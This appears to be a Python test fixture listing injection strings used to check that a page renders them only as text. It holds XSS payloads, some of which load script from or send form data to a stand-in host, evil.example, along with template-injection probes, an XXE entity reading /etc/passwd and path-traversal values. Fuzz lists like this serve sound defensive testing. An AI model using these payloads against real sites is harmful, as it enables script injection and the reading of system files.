"""Strings that would do something on a page if any of them became more than text."""

# ruff: noqa: E501
from __future__ import annotations

INJECTIONS = (
    "<script>pwned()</script>", "<ScRiPt >pwned()</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>pwned()//",
    "<img src=x onerror=pwned()>", "<img/src=`x`onerror=pwned()>", '"><img src=x onerror=pwned()>', "'><img src=x onerror=pwned()>",
    "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x>",
    "<svg><style>*{fill:red}</style></svg>", "</svg><script>pwned()</script>", "</title><script>pwned()</script>", "</desc><script>pwned()</script>",
    "<body onload=pwned()>", "<iframe src=javascript:pwned()>", "<iframe srcdoc='<script>pwned()</script>'>", "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>", "<a href=javascript:pwned()>x</a>", "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "<form action=//evil.example><input type=submit>", "<input autofocus onfocus=pwned()>", "<select onfocus=pwned() autofocus>", "<textarea autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>", "<details open ontoggle=pwned()>", "<marquee onstart=pwned()>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<style>body{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "</style><script>pwned()</script>",
    '" onmouseover="pwned()', "' onmouseover='pwned()", '" autofocus onfocus="pwned()" x="', "` onmouseover=pwned() `", '" style="display:none', "x\" href=\"javascript:pwned()",
    "javascript:pwned()", "JaVaScRiPt:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "//evil.example/x.png", "url(//evil.example/x.png)",
    "{{ 7 * 7 }}", "{% raw %}{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "{{ style|safe }}",
    "<!--", "-->", "<!-- --><script>pwned()</script>", "<![CDATA[<script>pwned()</script>]]>", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()", "&colon;", "&quot; onclick=&quot;pwned()", "%3Cscript%3Epwned()%3C/script%3E",
    "<scr\x00ipt>pwned()</scr\x00ipt>", "\x3cscript\x3epwned()", "\u202e<tpircs>", "\u2028<script>pwned()</script>", "\ufeff<script>pwned()</script>", "＜script＞pwned()", "\ud800<b>", "\x1b]0;t\x07<b>",
    "</table><table><tr><td>12 P0", "</td></tr></table><h1>No finding</h1>", "</details></main><main>", "</pre><b>", "</code></p><b>", "</noscript><script>pwned()</script>", "<template><script>pwned()</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", "<xmp><img src=x onerror=pwned()></xmp>", "<plaintext>", "<textarea></textarea><script>pwned()</script>",
    "**<b>bold</b>**", "`<b>code</b>`", "[x](javascript:pwned())", "![x](//evil.example/x.png)", "| <b> | </b> |\n|---|---|\n| <script>pwned()</script> | x |", "```\n</pre><script>pwned()</script>\n```", "# <script>pwned()</script>",
    "../../etc/passwd", "..\\..\\x.svg", "con.svg", "a/b\x00c", "x" * 300, "\U0001f600" * 50, "",
)  # fmt: skip
